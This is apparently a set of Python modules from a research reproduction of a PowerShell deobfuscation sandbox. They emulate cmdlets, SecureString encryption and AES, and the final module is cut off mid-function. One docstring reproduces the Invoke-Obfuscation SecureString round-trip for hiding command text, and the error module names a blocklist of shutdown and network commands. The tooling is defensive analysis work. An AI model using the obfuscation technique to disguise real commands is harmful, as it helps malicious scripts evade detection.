def format_ps_number(value) -> str:
    """Format a number the way PowerShell prints it standalone."""
    return to_string(value)


def deep_copy_tracked(value: Any) -> Any:
    """Copy container values so symbol-table snapshots stay immutable."""
    if isinstance(value, list):
        return [deep_copy_tracked(v) for v in value]
    if isinstance(value, dict):
        return {k: deep_copy_tracked(v) for k, v in value.items()}
    if isinstance(value, bytearray):
        return bytearray(value)
    return value


def type_name_of(value: Any) -> str:
    """A .NET-ish type name for ``-is`` comparisons and diagnostics."""
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "System.Boolean"
    if isinstance(value, PSChar):
        return "System.Char"
    if isinstance(value, int):
        return "System.Int32"
    if isinstance(value, float):
        return "System.Double"
    if isinstance(value, str):
        return "System.String"
    if isinstance(value, (bytes, bytearray)):
        return "System.Byte[]"
    if isinstance(value, list):
        return "System.Object[]"
    if isinstance(value, dict):
        return "System.Collections.Hashtable"
    if isinstance(value, ScriptBlockValue):
        return "System.Management.Automation.ScriptBlock"
    return type(value).__name__


def is_number(value: Any) -> bool:
    return isinstance(value, (int, float)) and not isinstance(value, bool)
