"""SecureString support: the paper's Table II "SecureString" technique.

Invoke-Obfuscation's SecureString encoding round-trips a command through::

    $s = ConvertTo-SecureString $cmd -AsPlainText -Force
    $e = ConvertFrom-SecureString $s -Key (1..16)
    # ... later ...
    $s = ConvertTo-SecureString $e -Key (1..16)
    [Runtime.InteropServices.Marshal]::PtrToStringAuto(
        [Runtime.InteropServices.Marshal]::SecureStringToBSTR($s))

We reproduce the keyed path byte-for-byte-compatibly *with ourselves*
(AES-CBC over UTF-16LE plaintext, same container layout as PowerShell:
a magic header plus base64 of ``2|<iv b64>|<hex ciphertext>``), and the
DPAPI path with a fixed machine key, since DPAPI itself is a Windows
service we must simulate.
"""

import base64
from typing import Any, List

from repro.runtime import aes
from repro.runtime.errors import EvaluationError
from repro.runtime.objects import PSObjectBase
from repro.runtime.values import to_int

# Header PowerShell puts on keyed SecureString ciphertexts.
_KEYED_MAGIC = "76492d1116743f0423413b16050a5345"
# Stand-in for the DPAPI user key (machine-bound in real Windows).
_DPAPI_KEY = bytes(range(11, 11 + 32))
_DPAPI_MAGIC = "01000000d08c9ddf0115d1118c7a00c04fc297eb"
# Deterministic IV derivation: sandbox runs must be reproducible, so the
# IV is a function of the plaintext rather than of a real RNG.
_IV_SALT = b"repro-securestring-iv"


class SecureString(PSObjectBase):
    """An in-memory secure string (plaintext retained for the sandbox)."""

    type_name = "System.Security.SecureString"

    def __init__(self, plaintext: str):
        self.plaintext = plaintext

    def ps_member(self, name: str) -> Any:
        if name.lower() == "length":
            return len(self.plaintext)
        return super().ps_member(name)

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "copy":
            return SecureString(self.plaintext)
        if lowered in ("makereadonly", "dispose", "clear"):
            return None
        return super().ps_call(name, args)

    def ps_to_string(self) -> str:
        return self.type_name


class BSTRPointer(PSObjectBase):
    """The opaque pointer ``SecureStringToBSTR`` returns."""

    type_name = "System.IntPtr"

    def __init__(self, plaintext: str):
        self.plaintext = plaintext

    def ps_to_string(self) -> str:
        return str(id(self) & 0xFFFFFFFF)


def _derive_iv(plaintext_utf16: bytes) -> bytes:
    import hashlib

    return hashlib.sha256(_IV_SALT + plaintext_utf16).digest()[:16]


def _normalize_key(key: Any) -> bytes:
    if isinstance(key, (bytes, bytearray)):
        material = bytes(key)
    elif isinstance(key, list):
        material = bytes(to_int(b) & 0xFF for b in key)
    elif isinstance(key, int):
        material = bytes([key & 0xFF])
    else:
        raise EvaluationError("SecureString key must be a byte array")
    if len(material) not in (16, 24, 32):
        raise EvaluationError(
            f"SecureString key must be 16/24/32 bytes, got {len(material)}"
        )
    return material


def encrypt_securestring(plaintext: str, key: Any = None) -> str:
    """``ConvertFrom-SecureString`` (optionally ``-Key``)."""
    data = plaintext.encode("utf-16-le")
    iv = _derive_iv(data)
    if key is None:
        ciphertext = aes.encrypt_cbc(data, _DPAPI_KEY, iv)
        blob = iv.hex() + ciphertext.hex()
        return _DPAPI_MAGIC + blob
    material = _normalize_key(key)
    ciphertext = aes.encrypt_cbc(data, material, iv)
    inner = "2|{}|{}".format(
        base64.b64encode(iv).decode("ascii"), ciphertext.hex()
    )
    encoded = base64.b64encode(inner.encode("utf-16-le")).decode("ascii")
    return _KEYED_MAGIC + encoded


def decrypt_securestring(encrypted: str, key: Any = None) -> str:
    """``ConvertTo-SecureString`` (keyed or DPAPI) → plaintext."""
    text = encrypted.strip()
    if text.startswith(_KEYED_MAGIC):
        if key is None:
            raise EvaluationError("keyed SecureString requires -Key")
        inner = base64.b64decode(text[len(_KEYED_MAGIC):]).decode("utf-16-le")
        parts = inner.split("|")
        if len(parts) != 3:
            raise EvaluationError("malformed SecureString container")
        iv = base64.b64decode(parts[1])
        ciphertext = bytes.fromhex(parts[2])
        plaintext = aes.decrypt_cbc(ciphertext, _normalize_key(key), iv)
        return plaintext.decode("utf-16-le")
    if text.startswith(_DPAPI_MAGIC):
        blob = bytes.fromhex(text[len(_DPAPI_MAGIC):])
        iv, ciphertext = blob[:16], blob[16:]
        plaintext = aes.decrypt_cbc(ciphertext, _DPAPI_KEY, iv)
        return plaintext.decode("utf-16-le")
    raise EvaluationError("not a SecureString ciphertext")


def securestring_to_bstr(secure: SecureString) -> BSTRPointer:
    if not isinstance(secure, SecureString):
        raise EvaluationError("SecureStringToBSTR needs a SecureString")
    return BSTRPointer(secure.plaintext)


def ptr_to_string(pointer: Any) -> str:
    if isinstance(pointer, BSTRPointer):
        return pointer.plaintext
    if isinstance(pointer, SecureString):
        return pointer.plaintext
    raise EvaluationError("PtrToString* needs a BSTR pointer")
