"""Allowlisted cmdlet implementations.

Each cmdlet is a function ``f(ctx) -> list`` where :class:`CommandContext`
carries the evaluator, evaluated positional arguments, named parameters
(lower-cased, ``True`` for switch parameters) and the pipeline input.
Returning a list models the output stream.

Anything not present here raises
:class:`~repro.runtime.errors.UnsupportedOperationError` at dispatch —
deny by default.
"""

import base64
import binascii
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional

from repro.runtime import securestring as ss
from repro.runtime.errors import (
    EvaluationError,
    UnsupportedOperationError,
)
from repro.runtime.objects import (
    ArrayList,
    DeflateStream,
    Encoding,
    GzipStream,
    MemoryStream,
    PSCredential,
    StreamReader,
    StringBuilder,
    TcpClient,
    WebClient,
)
from repro.runtime.values import (
    ScriptBlockValue,
    as_list,
    to_bool,
    to_int,
    to_string,
)


@dataclass
class CommandContext:
    evaluator: Any
    name: str
    arguments: List[Any] = field(default_factory=list)
    parameters: Dict[str, Any] = field(default_factory=dict)
    input_stream: List[Any] = field(default_factory=list)

    def param(self, *names: str, default: Any = None) -> Any:
        """Fetch a named parameter by any of its (prefix-matched) names."""
        for name in names:
            if name in self.parameters:
                return self.parameters[name]
        return default

    def param_startswith(self, full_name: str) -> Optional[Any]:
        """PowerShell-style parameter prefix matching (-enc → -EncodedCommand)."""
        full = full_name.lower()
        for key, value in self.parameters.items():
            if full.startswith(key) and key:
                return value
        return None


# ---------------------------------------------------------------------------
# Core object/pipeline cmdlets
# ---------------------------------------------------------------------------


def _foreach_object(ctx: CommandContext) -> List[Any]:
    blocks = [
        a for a in ctx.arguments if isinstance(a, ScriptBlockValue)
    ]
    if not blocks:
        member = ctx.param("membername")
        if member is None and ctx.arguments:
            member = to_string(ctx.arguments[0])
        if member is None:
            raise EvaluationError("ForEach-Object needs a scriptblock")
        from repro.runtime import members as _members
        from repro.runtime.errors import UnsupportedOperationError as _Unsup

        out = []
        for item in ctx.input_stream:
            # `% Length` reads a property; `% ToUpper` calls a method.
            try:
                value = _members.get_member(item, member)
            except _Unsup:
                value = ctx.evaluator.invoke_member_on(item, member, [])
            out.extend(as_list(value))
        return out
    out: List[Any] = []
    for item in ctx.input_stream:
        for block in blocks:
            out.extend(ctx.evaluator.invoke_scriptblock(block, dollar=item))
    return out


def _where_object(ctx: CommandContext) -> List[Any]:
    blocks = [a for a in ctx.arguments if isinstance(a, ScriptBlockValue)]
    if not blocks:
        raise UnsupportedOperationError(
            "Where-Object supports only scriptblock filters"
        )
    block = blocks[0]
    out = []
    for item in ctx.input_stream:
        result = ctx.evaluator.invoke_scriptblock(block, dollar=item)
        if to_bool(result if len(result) != 1 else result[0]):
            out.append(item)
    return out


def _write_output(ctx: CommandContext) -> List[Any]:
    out = list(ctx.input_stream)
    for arg in ctx.arguments:
        out.extend(as_list(arg))
    return out


def _write_host(ctx: CommandContext) -> List[Any]:
    pieces = [to_string(a) for a in ctx.arguments]
    pieces.extend(to_string(v) for v in ctx.input_stream)
    ctx.evaluator.host.write_host(" ".join(pieces))
    return []


def _write_silent(ctx: CommandContext) -> List[Any]:
    return []


def _out_null(ctx: CommandContext) -> List[Any]:
    return []


def _out_string(ctx: CommandContext) -> List[Any]:
    values = list(ctx.input_stream)
    values.extend(ctx.arguments)
    return ["\r\n".join(to_string(v) for v in values)]


def _out_file(ctx: CommandContext) -> List[Any]:
    path = ctx.param("filepath", "path") or (
        to_string(ctx.arguments[0]) if ctx.arguments else ""
    )
    content = ctx.param("value")
    if content is None:
        pieces = [to_string(v) for v in ctx.input_stream]
        content = "\r\n".join(pieces)
    else:
        content = to_string(content)
    append = bool(ctx.param("append")) or ctx.name == "add-content"
    ctx.evaluator.host.write_file(to_string(path), content, append=append)
    return []


def _get_content(ctx: CommandContext) -> List[Any]:
    path = ctx.param("path", "literalpath") or (
        to_string(ctx.arguments[0]) if ctx.arguments else ""
    )
    content = ctx.evaluator.host.read_file(to_string(path))
    if content is None:
        raise EvaluationError(f"Get-Content: path not found: {path}")
    if isinstance(content, (bytes, bytearray)):
        if ctx.param("asbytestream") or ctx.param("encoding") == "Byte":
            return list(content)
        content = bytes(content).decode("utf-8", "replace")
    if ctx.param("raw"):
        return [content]
    return content.splitlines()


def _select_object(ctx: CommandContext) -> List[Any]:
    items = list(ctx.input_stream)
    first = ctx.param("first")
    last = ctx.param("last")
    unique = ctx.param("unique")
    if unique:
        seen = []
        for item in items:
            if item not in seen:
                seen.append(item)
        items = seen
    if first is not None:
        items = items[:to_int(first)]
    if last is not None:
        items = items[-to_int(last):]
    index = ctx.param("index")
    if index is not None:
        wanted = [to_int(i) for i in as_list(index)]
        items = [items[i] for i in wanted if 0 <= i < len(items)]
    return items


def _sort_object(ctx: CommandContext) -> List[Any]:
    items = list(ctx.input_stream)
    reverse = bool(ctx.param("descending"))
    try:
        return sorted(items, reverse=reverse)
    except TypeError:
        return sorted(items, key=to_string, reverse=reverse)


def _measure_object(ctx: CommandContext) -> List[Any]:
    return [{"Count": len(ctx.input_stream)}]


def _get_variable(ctx: CommandContext) -> List[Any]:
    if not ctx.arguments:
        name = ctx.param("name")
    else:
        name = ctx.arguments[0]
    if name is None:
        raise EvaluationError("Get-Variable needs a name")
    value = ctx.evaluator.lookup_variable(to_string(name))
    if ctx.param("valueonly") or ctx.param("value"):
        return [value]
    return [{"Name": to_string(name), "Value": value}]


def _set_variable(ctx: CommandContext) -> List[Any]:
    name = ctx.param("name") or (
        ctx.arguments[0] if ctx.arguments else None
    )
    value = ctx.param("value")
    if value is None and len(ctx.arguments) > 1:
        value = ctx.arguments[1]
    if name is None:
        raise EvaluationError("Set-Variable needs a name")
    ctx.evaluator.set_variable(to_string(name), value)
    return []


def _set_alias(ctx: CommandContext) -> List[Any]:
    name = ctx.param("name") or (
        to_string(ctx.arguments[0]) if ctx.arguments else None
    )
    value = ctx.param("value")
    if value is None and len(ctx.arguments) > 1:
        value = ctx.arguments[1]
    if name is None or value is None:
        raise EvaluationError("Set-Alias needs name and value")
    ctx.evaluator.dynamic_aliases[to_string(name).lower()] = to_string(value)
    return []


def _get_location(ctx: CommandContext) -> List[Any]:
    return [r"C:\Users\user"]


def _join_path(ctx: CommandContext) -> List[Any]:
    parts = [to_string(a) for a in ctx.arguments]
    path = ctx.param("path")
    child = ctx.param("childpath")
    if path is not None:
        parts.insert(0, to_string(path))
    if child is not None:
        parts.append(to_string(child))
    return ["\\".join(p.rstrip("\\") for p in parts if p)]


def _split_path(ctx: CommandContext) -> List[Any]:
    path = to_string(
        ctx.param("path") or (ctx.arguments[0] if ctx.arguments else "")
    )
    if ctx.param("leaf"):
        return [path.rsplit("\\", 1)[-1]]
    head = path.rsplit("\\", 1)
    return [head[0] if len(head) == 2 else ""]


def _test_path(ctx: CommandContext) -> List[Any]:
    path = ctx.param("path", "literalpath") or (
        to_string(ctx.arguments[0]) if ctx.arguments else ""
    )
    return [ctx.evaluator.host.has_file(to_string(path))]


def _start_sleep(ctx: CommandContext) -> List[Any]:
    """Record the sleep; really sleep only when the evaluator opts in.

    The blocklist stops this cmdlet for the deobfuscator; the behaviour
    sandbox records it; baseline tools scale it down but do pay it, which
    reproduces their Fig 6 latency fluctuation without multi-second tests.
    """
    seconds = ctx.param("seconds", "s")
    if seconds is None and ctx.arguments:
        seconds = ctx.arguments[0]
    milliseconds = ctx.param("milliseconds", "m")
    if seconds is None and milliseconds is not None:
        seconds = to_int(milliseconds) / 1000.0
    try:
        amount = float(seconds) if seconds is not None else 0.0
    except (TypeError, ValueError):
        amount = 0.0
    ctx.evaluator.host.record("time.sleep", str(amount))
    scale = getattr(ctx.evaluator, "sleep_scale", 0.0)
    if scale > 0 and amount > 0:
        import time as _time

        cap = getattr(ctx.evaluator, "sleep_cap", 0.25)
        _time.sleep(min(amount * scale, cap))
    return []


def _get_random(ctx: CommandContext) -> List[Any]:
    raise UnsupportedOperationError(
        "Get-Random is nondeterministic and not allowed in the sandbox"
    )


def _get_date(ctx: CommandContext) -> List[Any]:
    raise UnsupportedOperationError(
        "Get-Date is nondeterministic and not allowed in the sandbox"
    )


# ---------------------------------------------------------------------------
# Object construction and SecureString
# ---------------------------------------------------------------------------

_NEW_OBJECT_TYPES: Dict[str, Callable] = {}


def _register_new_object_types() -> None:
    def simple(factory):
        return lambda ctx, args: factory(*args)

    _NEW_OBJECT_TYPES.update(
        {
            "net.webclient": lambda ctx, args: WebClient(ctx.evaluator.host),
            "net.sockets.tcpclient": lambda ctx, args: TcpClient(
                ctx.evaluator.host,
                to_string(args[0]) if args else "",
                to_int(args[1]) if len(args) > 1 else 0,
            ),
            "io.memorystream": lambda ctx, args: MemoryStream(
                args[0] if args else None
            ),
            "io.compression.deflatestream": lambda ctx, args: DeflateStream(
                args[0], to_string(args[1]) if len(args) > 1 else "decompress"
            ),
            "io.compression.gzipstream": lambda ctx, args: GzipStream(
                args[0], to_string(args[1]) if len(args) > 1 else "decompress"
            ),
            "io.streamreader": lambda ctx, args: StreamReader(
                args[0], args[1] if len(args) > 1 else None
            ),
            "text.stringbuilder": lambda ctx, args: StringBuilder(
                to_string(args[0]) if args else ""
            ),
            "collections.arraylist": lambda ctx, args: ArrayList(),
            "management.automation.pscredential": lambda ctx, args: (
                PSCredential(
                    to_string(args[0]) if args else "",
                    args[1] if len(args) > 1 else None,
                )
            ),
            "security.securestring": lambda ctx, args: ss.SecureString(""),
            "text.asciiencoding": lambda ctx, args: Encoding("ascii"),
            "text.utf8encoding": lambda ctx, args: Encoding("utf8"),
            "text.unicodeencoding": lambda ctx, args: Encoding("unicode"),
        }
    )


_register_new_object_types()


def _new_object(ctx: CommandContext) -> List[Any]:
    type_name = ctx.param("typename")
    args: List[Any] = []
    if type_name is None:
        if not ctx.arguments:
            raise EvaluationError("New-Object needs a type name")
        type_name = ctx.arguments[0]
        args = list(ctx.arguments[1:])
    argument_list = ctx.param("argumentlist")
    if argument_list is not None:
        args = as_list(argument_list)
    if ctx.param("comobject") is not None:
        raise UnsupportedOperationError("COM objects are not allowed")
    name = to_string(type_name).lower().replace("`", "")
    if name.startswith("system."):
        name = name[len("system."):]
    factory = _NEW_OBJECT_TYPES.get(name)
    if factory is None:
        raise UnsupportedOperationError(f"New-Object {type_name}")
    # `New-Object Type(a, b)` parses as one parenthesized array argument;
    # its elements are the constructor arguments.  The classic `(,$bytes)`
    # idiom wraps a single array argument the same way.
    if len(args) == 1 and isinstance(args[0], list):
        args = list(args[0])
    return [factory(ctx, args)]


def _convertto_securestring(ctx: CommandContext) -> List[Any]:
    text = ctx.param("string")
    if text is None and ctx.arguments:
        text = ctx.arguments[0]
    if text is None and ctx.input_stream:
        text = ctx.input_stream[0]
    if text is None:
        raise EvaluationError("ConvertTo-SecureString needs input")
    text = to_string(text)
    if ctx.param("asplaintext") is not None:
        return [ss.SecureString(text)]
    key = ctx.param("key", "securekey")
    return [ss.SecureString(ss.decrypt_securestring(text, key))]


def _convertfrom_securestring(ctx: CommandContext) -> List[Any]:
    secure = ctx.param("securestring")
    if secure is None and ctx.arguments:
        secure = ctx.arguments[0]
    if secure is None and ctx.input_stream:
        secure = ctx.input_stream[0]
    if not isinstance(secure, ss.SecureString):
        raise EvaluationError("ConvertFrom-SecureString needs a SecureString")
    key = ctx.param("key", "securekey")
    return [ss.encrypt_securestring(secure.plaintext, key)]


# ---------------------------------------------------------------------------
# Script execution cmdlets
# ---------------------------------------------------------------------------


def _invoke_expression(ctx: CommandContext) -> List[Any]:
    source = ctx.param("command")
    if source is None and ctx.arguments:
        source = ctx.arguments[0]
    if source is None and ctx.input_stream:
        source = ctx.input_stream[-1]
    if source is None:
        raise EvaluationError("Invoke-Expression needs a command")
    if isinstance(source, ScriptBlockValue):
        return ctx.evaluator.invoke_scriptblock(source)
    return ctx.evaluator.run_script_text(to_string(source))


def _powershell(ctx: CommandContext) -> List[Any]:
    """The ``powershell``/``pwsh`` child-shell launch, run in-process.

    ``-EncodedCommand`` accepts any unambiguous prefix (``-e``, ``-enc``,
    ...) and carries a Base64(UTF-16LE) script; ``-Command`` likewise.
    """
    encoded = None
    command = None
    file_path = None
    for key, value in ctx.parameters.items():
        if key and "encodedcommand".startswith(key):
            encoded = value
        elif key and key not in ("c",) and "command".startswith(key):
            command = value
        elif key == "c":
            command = value
        elif key and key not in ("f",) and "file".startswith(key):
            file_path = value
    if file_path is not None:
        content = ctx.evaluator.host.read_file(to_string(file_path))
        ctx.evaluator.host.record("proc.powershell_file",
                                  to_string(file_path))
        if isinstance(content, (bytes, bytearray)):
            content = bytes(content).decode("utf-8", "replace")
        if content is None:
            return []
        return ctx.evaluator.run_script_text(content)
    if encoded is None and command is None and ctx.arguments:
        candidate = to_string(ctx.arguments[-1])
        if _looks_like_base64(candidate):
            encoded = candidate
        else:
            command = candidate
    if encoded is not None:
        try:
            script = base64.b64decode(to_string(encoded)).decode("utf-16-le")
        except (binascii.Error, UnicodeDecodeError, ValueError) as exc:
            raise EvaluationError(f"bad -EncodedCommand: {exc}") from exc
        return ctx.evaluator.run_script_text(script)
    if command is not None:
        if isinstance(command, ScriptBlockValue):
            return ctx.evaluator.invoke_scriptblock(command)
        return ctx.evaluator.run_script_text(to_string(command))
    if ctx.input_stream:
        return ctx.evaluator.run_script_text(
            "\n".join(to_string(v) for v in ctx.input_stream)
        )
    return []


def _looks_like_base64(text: str) -> bool:
    if len(text) < 8 or len(text) % 4 != 0:
        return False
    import string as _string

    allowed = set(_string.ascii_letters + _string.digits + "+/=")
    return all(ch in allowed for ch in text)


# ---------------------------------------------------------------------------
# Registry
# ---------------------------------------------------------------------------

CMDLETS: Dict[str, Callable[[CommandContext], List[Any]]] = {
    "foreach-object": _foreach_object,
    "where-object": _where_object,
    "write-output": _write_output,
    "write-host": _write_host,
    "write-error": _write_silent,
    "write-warning": _write_silent,
    "write-verbose": _write_silent,
    "write-debug": _write_silent,
    "write-progress": _write_silent,
    "write-information": _write_silent,
    "out-null": _out_null,
    "out-string": _out_string,
    "out-host": _write_host,
    "out-default": _write_output,
    "out-file": _out_file,
    "set-content": _out_file,
    "add-content": _out_file,
    "get-content": _get_content,
    "select-object": _select_object,
    "sort-object": _sort_object,
    "measure-object": _measure_object,
    "get-variable": _get_variable,
    "set-variable": _set_variable,
    "new-variable": _set_variable,
    "set-alias": _set_alias,
    "new-alias": _set_alias,
    "get-location": _get_location,
    "join-path": _join_path,
    "split-path": _split_path,
    "test-path": _test_path,
    "get-random": _get_random,
    "get-date": _get_date,
    "start-sleep": _start_sleep,
    "new-object": _new_object,
    "convertto-securestring": _convertto_securestring,
    "convertfrom-securestring": _convertfrom_securestring,
    "invoke-expression": _invoke_expression,
    "powershell": _powershell,
    "powershell.exe": _powershell,
    "pwsh": _powershell,
    "pwsh.exe": _powershell,
    "import-module": _write_silent,
    "add-type": _write_silent,
    "clear-host": _write_silent,
}


def lookup_cmdlet(name: str):
    return CMDLETS.get(name.lower())
