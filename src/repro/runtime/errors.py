"""Error taxonomy for the sandboxed evaluator.

The deobfuscator distinguishes these cases (paper Section III-B2):

- :class:`UnsupportedOperationError` — the piece uses an operation outside
  the allowlist; the piece is kept as-is.
- :class:`BlockedCommandError` — the piece contains a command/method from
  the built-in blocklist (``Restart-Computer``, network sinks, ...); the
  piece is not executed, which is the paper's deobfuscation speed-up.
- :class:`UnknownVariableError` — variable tracing has no recorded value;
  the assignment/piece is abandoned (Algorithm 1, lines 15-18).
- :class:`StepLimitError` — the execution budget ran out (sandbox hygiene).
"""


class EvaluationError(Exception):
    """Base class: evaluating a script piece failed for any reason."""


class UnsupportedOperationError(EvaluationError):
    """Operation outside the evaluator's allowlist."""


class BlockedCommandError(EvaluationError):
    """A blocklisted command or method was about to run."""

    def __init__(self, name: str):
        super().__init__(f"blocked command: {name}")
        self.name = name


class PolicyDeniedError(BlockedCommandError):
    """The active :class:`~repro.policy.SandboxPolicy` refused a
    capability (command, member, static, env read, or effect).

    Subclasses :class:`BlockedCommandError` so every existing handler —
    recovery's ``blocked`` outcome, the observing sandbox's ``blocked``
    flag — treats a policy denial exactly like a blocklist hit.
    """

    def __init__(self, name: str, capability: str = "command"):
        EvaluationError.__init__(
            self, f"policy denied {capability}: {name}"
        )
        self.name = name
        self.capability = capability


class UnknownVariableError(EvaluationError):
    """A variable has no recorded value in the current scope chain."""

    def __init__(self, name: str):
        super().__init__(f"unknown variable: ${name}")
        self.name = name


class StepLimitError(EvaluationError):
    """The evaluation step budget was exhausted."""
