"""Pure-Python AES (CBC mode, PKCS#7) — substrate for SecureString.

``ConvertFrom-SecureString -Key`` / ``ConvertTo-SecureString -Key`` encrypt
with AES; Invoke-Obfuscation's SecureString technique round-trips command
text through that pair.  The standard library has no AES, so this module
implements it from the FIPS-197 specification.  Performance is irrelevant
here — payloads are a few hundred bytes.
"""

from typing import List

_SBOX = [
    0x63, 0x7C, 0x77, 0x7B, 0xF2, 0x6B, 0x6F, 0xC5, 0x30, 0x01, 0x67, 0x2B,
    0xFE, 0xD7, 0xAB, 0x76, 0xCA, 0x82, 0xC9, 0x7D, 0xFA, 0x59, 0x47, 0xF0,
    0xAD, 0xD4, 0xA2, 0xAF, 0x9C, 0xA4, 0x72, 0xC0, 0xB7, 0xFD, 0x93, 0x26,
    0x36, 0x3F, 0xF7, 0xCC, 0x34, 0xA5, 0xE5, 0xF1, 0x71, 0xD8, 0x31, 0x15,
    0x04, 0xC7, 0x23, 0xC3, 0x18, 0x96, 0x05, 0x9A, 0x07, 0x12, 0x80, 0xE2,
    0xEB, 0x27, 0xB2, 0x75, 0x09, 0x83, 0x2C, 0x1A, 0x1B, 0x6E, 0x5A, 0xA0,
    0x52, 0x3B, 0xD6, 0xB3, 0x29, 0xE3, 0x2F, 0x84, 0x53, 0xD1, 0x00, 0xED,
    0x20, 0xFC, 0xB1, 0x5B, 0x6A, 0xCB, 0xBE, 0x39, 0x4A, 0x4C, 0x58, 0xCF,
    0xD0, 0xEF, 0xAA, 0xFB, 0x43, 0x4D, 0x33, 0x85, 0x45, 0xF9, 0x02, 0x7F,
    0x50, 0x3C, 0x9F, 0xA8, 0x51, 0xA3, 0x40, 0x8F, 0x92, 0x9D, 0x38, 0xF5,
    0xBC, 0xB6, 0xDA, 0x21, 0x10, 0xFF, 0xF3, 0xD2, 0xCD, 0x0C, 0x13, 0xEC,
    0x5F, 0x97, 0x44, 0x17, 0xC4, 0xA7, 0x7E, 0x3D, 0x64, 0x5D, 0x19, 0x73,
    0x60, 0x81, 0x4F, 0xDC, 0x22, 0x2A, 0x90, 0x88, 0x46, 0xEE, 0xB8, 0x14,
    0xDE, 0x5E, 0x0B, 0xDB, 0xE0, 0x32, 0x3A, 0x0A, 0x49, 0x06, 0x24, 0x5C,
    0xC2, 0xD3, 0xAC, 0x62, 0x91, 0x95, 0xE4, 0x79, 0xE7, 0xC8, 0x37, 0x6D,
    0x8D, 0xD5, 0x4E, 0xA9, 0x6C, 0x56, 0xF4, 0xEA, 0x65, 0x7A, 0xAE, 0x08,
    0xBA, 0x78, 0x25, 0x2E, 0x1C, 0xA6, 0xB4, 0xC6, 0xE8, 0xDD, 0x74, 0x1F,
    0x4B, 0xBD, 0x8B, 0x8A, 0x70, 0x3E, 0xB5, 0x66, 0x48, 0x03, 0xF6, 0x0E,
    0x61, 0x35, 0x57, 0xB9, 0x86, 0xC1, 0x1D, 0x9E, 0xE1, 0xF8, 0x98, 0x11,
    0x69, 0xD9, 0x8E, 0x94, 0x9B, 0x1E, 0x87, 0xE9, 0xCE, 0x55, 0x28, 0xDF,
    0x8C, 0xA1, 0x89, 0x0D, 0xBF, 0xE6, 0x42, 0x68, 0x41, 0x99, 0x2D, 0x0F,
    0xB0, 0x54, 0xBB, 0x16,
]

_INV_SBOX = [0] * 256
for _i, _v in enumerate(_SBOX):
    _INV_SBOX[_v] = _i

_RCON = [0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1B, 0x36,
         0x6C, 0xD8, 0xAB, 0x4D]


def _xtime(a: int) -> int:
    a <<= 1
    if a & 0x100:
        a ^= 0x11B
    return a & 0xFF


def _mul(a: int, b: int) -> int:
    result = 0
    while b:
        if b & 1:
            result ^= a
        a = _xtime(a)
        b >>= 1
    return result


def _expand_key(key: bytes) -> List[List[int]]:
    key_words = len(key) // 4
    rounds = {4: 10, 6: 12, 8: 14}[key_words]
    words = [list(key[4 * i:4 * i + 4]) for i in range(key_words)]
    for i in range(key_words, 4 * (rounds + 1)):
        temp = list(words[i - 1])
        if i % key_words == 0:
            temp = temp[1:] + temp[:1]
            temp = [_SBOX[b] for b in temp]
            temp[0] ^= _RCON[i // key_words - 1]
        elif key_words > 6 and i % key_words == 4:
            temp = [_SBOX[b] for b in temp]
        words.append([w ^ t for w, t in zip(words[i - key_words], temp)])
    return [sum(words[4 * r:4 * r + 4], []) for r in range(rounds + 1)]


def _add_round_key(state: List[int], round_key: List[int]) -> None:
    for i in range(16):
        state[i] ^= round_key[i]


def _sub_bytes(state: List[int], box: List[int]) -> None:
    for i in range(16):
        state[i] = box[state[i]]


def _shift_rows(state: List[int]) -> None:
    for row in range(1, 4):
        values = [state[row + 4 * col] for col in range(4)]
        values = values[row:] + values[:row]
        for col in range(4):
            state[row + 4 * col] = values[col]


def _inv_shift_rows(state: List[int]) -> None:
    for row in range(1, 4):
        values = [state[row + 4 * col] for col in range(4)]
        values = values[-row:] + values[:-row]
        for col in range(4):
            state[row + 4 * col] = values[col]


def _mix_columns(state: List[int]) -> None:
    for col in range(4):
        a = state[4 * col:4 * col + 4]
        state[4 * col + 0] = _mul(a[0], 2) ^ _mul(a[1], 3) ^ a[2] ^ a[3]
        state[4 * col + 1] = a[0] ^ _mul(a[1], 2) ^ _mul(a[2], 3) ^ a[3]
        state[4 * col + 2] = a[0] ^ a[1] ^ _mul(a[2], 2) ^ _mul(a[3], 3)
        state[4 * col + 3] = _mul(a[0], 3) ^ a[1] ^ a[2] ^ _mul(a[3], 2)


def _inv_mix_columns(state: List[int]) -> None:
    for col in range(4):
        a = state[4 * col:4 * col + 4]
        state[4 * col + 0] = (
            _mul(a[0], 14) ^ _mul(a[1], 11) ^ _mul(a[2], 13) ^ _mul(a[3], 9)
        )
        state[4 * col + 1] = (
            _mul(a[0], 9) ^ _mul(a[1], 14) ^ _mul(a[2], 11) ^ _mul(a[3], 13)
        )
        state[4 * col + 2] = (
            _mul(a[0], 13) ^ _mul(a[1], 9) ^ _mul(a[2], 14) ^ _mul(a[3], 11)
        )
        state[4 * col + 3] = (
            _mul(a[0], 11) ^ _mul(a[1], 13) ^ _mul(a[2], 9) ^ _mul(a[3], 14)
        )


def encrypt_block(block: bytes, round_keys: List[List[int]]) -> bytes:
    state = list(block)
    _add_round_key(state, round_keys[0])
    for round_key in round_keys[1:-1]:
        _sub_bytes(state, _SBOX)
        _shift_rows(state)
        _mix_columns(state)
        _add_round_key(state, round_key)
    _sub_bytes(state, _SBOX)
    _shift_rows(state)
    _add_round_key(state, round_keys[-1])
    return bytes(state)


def decrypt_block(block: bytes, round_keys: List[List[int]]) -> bytes:
    state = list(block)
    _add_round_key(state, round_keys[-1])
    for round_key in reversed(round_keys[1:-1]):
        _inv_shift_rows(state)
        _sub_bytes(state, _INV_SBOX)
        _add_round_key(state, round_key)
        _inv_mix_columns(state)
    _inv_shift_rows(state)
    _sub_bytes(state, _INV_SBOX)
    _add_round_key(state, round_keys[0])
    return bytes(state)


def _pad(data: bytes) -> bytes:
    padding = 16 - len(data) % 16
    return data + bytes([padding] * padding)


def _unpad(data: bytes) -> bytes:
    if not data:
        raise ValueError("empty ciphertext")
    padding = data[-1]
    if not 1 <= padding <= 16 or data[-padding:] != bytes([padding] * padding):
        raise ValueError("bad PKCS#7 padding")
    return data[:-padding]


def encrypt_cbc(plaintext: bytes, key: bytes, iv: bytes) -> bytes:
    """AES-CBC encrypt with PKCS#7 padding."""
    if len(key) not in (16, 24, 32):
        raise ValueError(f"bad AES key length: {len(key)}")
    if len(iv) != 16:
        raise ValueError("IV must be 16 bytes")
    round_keys = _expand_key(key)
    data = _pad(plaintext)
    out = bytearray()
